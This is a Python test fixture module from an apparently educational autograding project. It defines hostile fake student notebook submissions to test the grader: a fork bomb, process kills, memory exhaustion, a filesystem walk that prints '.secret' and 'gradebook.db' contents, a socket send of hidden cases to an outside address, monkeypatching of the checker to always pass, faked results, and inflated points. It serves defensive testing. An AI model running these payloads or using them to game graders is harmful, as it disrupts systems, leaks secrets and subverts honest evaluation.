"""What hostile made-up students do to a notebook: loops, forks, kills, lies, and files that are none.

`made_up_class.py` puts each into one submission. Their code does nothing unless it is in a grading box, so
that a notebook which somebody opens and runs by mistake does no harm; never count on that with real ones.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Literal

from swin_edu.classroom.class_counts import Kind

__all__ = ["ATTACKS", "Attack", "Cells"]

Cells = list[dict[str, Any]]
Loss = Literal["nothing", "exercise", "everything"]

WARNING = (
    "**Made up, and hostile on purpose.** This submission tries out the grading: it is there to be graded in "
    "isolation. Read it if you like, but do not run it."
)
# In a grading box there is this folder, and nothing else that a person works in.
IN_A_BOX = 'import os\nIN_A_BOX = os.path.isdir("/submission") and not os.path.exists("/home")\n'
ONLY_THERE = 'import os\nif not os.path.isdir("/submission") or os.path.exists("/home"):\n    return None\n'


@dataclass(frozen=True)
class Attack:
    """One way to be hostile.

    Args:
        what: it tries, in a few words.
        cell: code of a cell in front of everything; empty where there is none.
        body: of the attacked exercise's function; None where the answer is a right one.
        kind: in which group of the teacher's page the attacked exercise should be.
        look: whether the teacher should be told.
        cells: what is done to the notebook's cells; it gets them and the attacked exercise's name.
        file: what is done to the file's bytes.
        loses: which exercises give no points.

    Example:
        >>> ATTACKS["os._exit in a cell"].loses
        'nothing'
    """

    what: str
    cell: str = ""
    body: str | None = None
    kind: Kind = "right"
    look: bool = False
    cells: Callable[[Cells, str], Cells] | None = None
    file: Callable[[bytes], bytes] | None = None

    @property
    def loses(self) -> Loss:
        """Nothing where the answer was a right one, everything where there is no notebook any more."""
        if self.file is not None:
            return "everything"
        return "nothing" if self.kind == "right" else "exercise"

    @property
    def guarded_cell(self) -> str:
        """The cell, harmless outside a grading box; empty where there is none."""
        if not self.cell:
            return ""
        lines = "\n".join(f"    {line}" for line in self.cell.strip().split("\n"))
        return f"{IN_A_BOX}if IN_A_BOX:\n{lines}"

    @property
    def guarded_body(self) -> str | None:
        """The function's body, the same way."""
        return None if self.body is None else ONLY_THERE + self.body.strip()


def _is(cell: dict[str, Any], grade_id: str) -> bool:
    return cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id


def _delete(cells: Cells, exercise: str) -> Cells:
    """Without the exercise, and without any check."""
    return [
        cell
        for cell in cells
        if not _is(cell, exercise)
        and not (cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("grade"))
    ]


def _twice(cells: Cells, exercise: str) -> Cells:
    """An older version of the exercise stands in front of the one that counts, with the same id."""
    found: Cells = []
    for cell in cells:
        if _is(cell, exercise):
            name = cell["source"].split("(")[0]
            found.append({**cell, "source": f"{name}(*anything):\n    return 'my first try'"})
        found.append(cell)
    return found


def _rich(cells: Cells, exercise: str) -> Cells:
    """The check says that all is right and worth a thousand points, and so do its outputs."""
    for cell in cells:
        if _is(cell, f"{exercise}_points"):
            cell["metadata"]["nbgrader"]["points"] = 1000
            cell["source"] = "1000"
            data = {"text/plain": "1000"}
            result = {"output_type": "execute_result", "metadata": {}, "execution_count": 1, "data": data}
            cell["outputs"] = [result]
        if _is(cell, exercise):
            cell["source"] = cell["source"].split("(")[0] + "(*anything):\n    return 1000"
    return cells


def _cut_off(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _other_file(data: bytes) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + json.dumps({"length": len(data)}).encode()


ATTACKS: dict[str, Attack] = {
    "endless loop": Attack(
        "a loop in the function that never ends", body="while True:\n    pass", kind="trouble", look=True
    ),
    "os._exit in a cell": Attack("ends the process", cell="os._exit(0)", look=True),
    "fork bomb": Attack(
        "more and more processes", cell="while True:\n    os.fork()"
    ),
    "huge output": Attack(
        "prints 200 million characters", cell='for _ in range(200):\n    print("x" * 10**6)'
    ),
    "deleted cells": Attack(
        "the exercise and all checks are gone", kind="unwritten", look=True, cells=_delete
    ),
    "duplicated cells": Attack("two cells of one name", look=True, cells=_twice),
    "broken JSON": Attack("half of a file", kind="trouble", look=True, file=_cut_off),
    "reads hidden files": Attack(
        "looks for solutions and hidden cases",
        cell=(
            "for place in ('/', '/course', '/work', '/root', '..', '../..'):\n"
            "    for folder, _, files in os.walk(place):\n"
            "        for name in files:\n"
            "            if name in ('.secret', 'gradebook.db') or name.endswith('.ipynb'):\n"
            "                print(folder, name, open(os.path.join(folder, name), 'rb').read()[:200])\n"
            "        if folder.count('/') > 3: break"
        ),
        body=(
            "places = ('/course/assignments/.secret', '../.secret')\n"
            "found = [name for name in places if os.path.exists(name)]\n"
            "return [open(name).read() for name in found] or 'nothing found'"
        ),
        kind="other",
    ),
    "prints a fake result": Attack(
        "says that it is right",
        cell=(
            "print('right! (99 cases)')\n"
            "from IPython.display import display\n"
            "display({'text/plain': '99'}, raw=True)"
        ),
        body="print('right! (99 cases)')\nreturn 'right! (99 cases)'",
        kind="other",
    ),
    "patches the checker": Attack(
        "changes equality, and the exercises",
        cell=(
            "import sys, torch\n"
            "from swin_edu import exercises\n"
            "torch.equal = torch.allclose = lambda *anything, **more: True\n"
            "for module in list(sys.modules.values()):\n"
            "    for name in ('same_answer', 'judge', 'marks', 'grade'):\n"
            "        if getattr(module, '__name__', '').startswith('swin_edu'):\n"
            "            setattr(module, name, lambda *anything, **more: 99)"
        ),
        body=(
            "class Equal:\n"
            "    shape = dtype = property(lambda self: self)\n"
            "    def __eq__(self, other): return True\n"
            "    def __ne__(self, other): return False\n"
            "return Equal()"
        ),
        kind="other",
    ),
    "network": Attack(
        "calls home",
        cell=(
            "import socket\n"
            "socket.create_connection(('1.1.1.1', 80), timeout=3).send(b'hidden cases')"
        ),
    ),
    "kernel kill": Attack("kills its process", cell="os.kill(os.getpid(), 9)", look=True),
    "os._exit in the function": Attack(
        "ends the process when it is asked", body="os._exit(0)", kind="trouble", look=True
    ),
    "points in the metadata": Attack("a thousand points in the file", kind="other", cells=_rich),
    "all the memory": Attack(
        "asks for 4 TB", body="import torch\nreturn torch.zeros(10**12)", kind="other"
    ),
    "endless recursion": Attack(
        "calls itself", body="def again(n):\n    return again(n + 1)\nreturn again(0)", kind="other"
    ),
    "no notebook": Attack("a picture with a notebook's name", kind="trouble", look=True, file=_other_file),
}  # fmt: skip
